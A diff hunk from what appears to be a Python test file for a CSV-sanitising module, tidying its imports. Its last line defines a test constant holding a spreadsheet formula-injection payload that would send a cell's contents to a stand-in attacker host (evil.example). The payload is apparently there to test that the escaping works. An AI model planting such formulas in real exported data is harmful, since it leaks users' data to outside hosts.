@@ -21,10 +21,9 @@ import pandas as pd
 import pytest
 
 from engine.__main__ import main
-from store.csv_safe import csv_cell, csv_frame
 from engine.prompting.prompts import METADATA_TYPES, PromptConfig
-from engine.types import RunSpec
-from engine.types import Citation, Document, Generation, Item
+from engine.types import Citation, Document, Generation, Item, RunSpec
+from store.csv_safe import csv_cell, csv_frame
 from store.run_store import RunStore
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&B2,"open")'
